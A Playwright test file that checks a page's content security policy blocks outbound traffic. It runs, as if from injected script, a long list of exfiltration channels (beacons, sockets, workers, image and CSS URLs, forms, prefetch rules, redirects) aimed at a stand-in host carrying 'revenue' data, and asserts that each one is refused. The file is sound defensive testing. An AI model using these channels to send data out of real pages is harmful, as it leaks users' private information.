import { expect, test } from '../test';

test.beforeEach(async ({ page }) => {
	await page.goto('./');
	await expect(page.getByRole('heading').first()).toBeVisible();
});

test('the page cannot send anything to another origin', async ({ page, trespasses }) => {
	const outcome = await page.evaluate(async () => {
		const fetched = await fetch('https://elsewhere.example/').then(
			() => 'sent',
			() => 'refused',
		);
		return { fetched, peers: 'RTCPeerConnection' in globalThis };
	});
	expect(outcome).toEqual({ fetched: 'refused', peers: false });
	await expect
		.poll(() => trespasses.map(({ what }) => what.split(':')[0]))
		.toEqual(['connect-src']);
	trespasses.length = 0;
});

test('the page cannot be led to another origin, where its address would tell figures', async ({
	page,
}) => {
	const here = page.url();
	await page.evaluate(() => {
		location.href = 'https://elsewhere.example/?revenue=1';
	});
	// A second change of address, allowed, shows that the first has been dealt with.
	await page.evaluate(() => {
		history.replaceState(history.state, '', '?still=here');
	});
	await expect.poll(() => page.url()).toBe(`${here}?still=here`);
});

/** What a content security policy closes; each is tried by script, as if somebody had got one in. */
const CLOSED = [
	'beacon',
	'request',
	'socket',
	'stream',
	'transport',
	'picture',
	'background',
	'sheet',
	'frame',
	'namedFrame',
	'video',
	'form',
	'module',
	'worker',
	'prefetch',
	'ping',
	'sharedWorker',
	'serviceWorker',
	'manifest',
	'rules',
	'printed',
	'canvas',
	'refresh',
] as const;

test('[SEC-3] no channel leads to another machine: the proxy of all these tests stays empty', async ({
	page,
	context,
	trespasses,
}) => {
	const outcomes = await page.evaluate(async (channels) => {
		const there = 'https://elsewhere.example/?revenue=1';
		const element = (tag: string, fields: Record<string, string>): HTMLElement => {
			const made = document.createElement(tag);
			for (const [name, value] of Object.entries(fields)) made.setAttribute(name, value);
			document.body.append(made);
			return made;
		};
		const attempts: Record<(typeof channels)[number], () => unknown> = {
			beacon: () => navigator.sendBeacon(there, 'revenue'),
			request: () => {
				const request = new XMLHttpRequest();
				request.open('GET', there);
				request.send();
			},
			socket: () => new WebSocket('wss://elsewhere.example/'),
			stream: () => new EventSource(there),
			transport: () => Reflect.construct(Reflect.get(globalThis, 'WebTransport'), [there]),
			picture: () => element('img', { src: there }),
			background: () => {
				element('i', {}).style.backgroundImage = `url(${there})`;
			},
			sheet: () => element('link', { rel: 'stylesheet', href: there }),
			frame: () => element('iframe', { src: there }),
			namedFrame: () =>
				document
					.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe')
					.setAttribute('src', there),
			video: () => element('video', { src: there }),
			form: () => {
				(element('form', { action: there }) as HTMLFormElement).submit();
			},
			module: () => import(/* @vite-ignore */ there),
			worker: () => new Worker(there),
			prefetch: () => element('link', { rel: 'prefetch', href: there }),
			ping: () => {
				element('a', { href: '#here', ping: there }).click();
			},
			sharedWorker: () => new SharedWorker(there),
			serviceWorker: () => navigator.serviceWorker.register(there).catch(() => 'refused'),
			manifest: () => element('link', { rel: 'manifest', href: there }),
			rules: () => {
				const rules = document.createElement('script');
				rules.type = 'speculationrules';
				rules.text = JSON.stringify({ prefetch: [{ source: 'list', urls: [there] }] });
				document.head.append(rules);
			},
			printed: () => {
				element('style', { media: 'all' }).append(`@media all { body { cursor: url(${there}) } }`);
			},
			canvas: () => {
				const picture = new Image();
				picture.crossOrigin = 'anonymous';
				picture.src = there;
				document.createElement('canvas').getContext('2d')?.drawImage(picture, 0, 0);
			},
			refresh: () => element('meta', { 'http-equiv': 'refresh', content: `0;url=${there}` }),
		};
		for (const channel of channels) {
			try {
				await attempts[channel]();
			} catch {
				// Refused at once is refused.
			}
		}
		// What no policy closes, and the page does itself.
		const opened = 'open' in globalThis ? (open(there) === null ? 'refused' : 'a window') : 'gone';
		element('a', { href: there, target: '_blank' }).click();
		const link = element('a', { href: there });
		link.dispatchEvent(new MouseEvent('auxclick', { button: 1, bubbles: true, cancelable: true }));
		link.click();
		return { opened, peers: 'RTCPeerConnection' in globalThis, frames: frames.length };
	}, CLOSED);
	expect(outcomes).toEqual({ opened: 'gone', peers: false, frames: 0 });
	// Refusals are told one by one, some of them late.
	let told = -1;
	const allTold = (): boolean => {
		const [before, now] = [told, trespasses.length];
		told = now;
		return now > CLOSED.length / 2 && now === before;
	};
	await expect.poll(allTold, { intervals: [500] }).toBe(true);
	expect(context.pages()).toHaveLength(1);
	expect(new URL(page.url()).hostname).toBe('localhost');
	// The browser tells of requests that it then refused; what got out, the proxy knows.
	expect(trespasses.filter(({ kind }) => kind === 'error')).toEqual([]);
	trespasses.length = 0;
});

test('no cookie is ever set', async ({ context }) => {
	expect(await context.cookies()).toEqual([]);
});
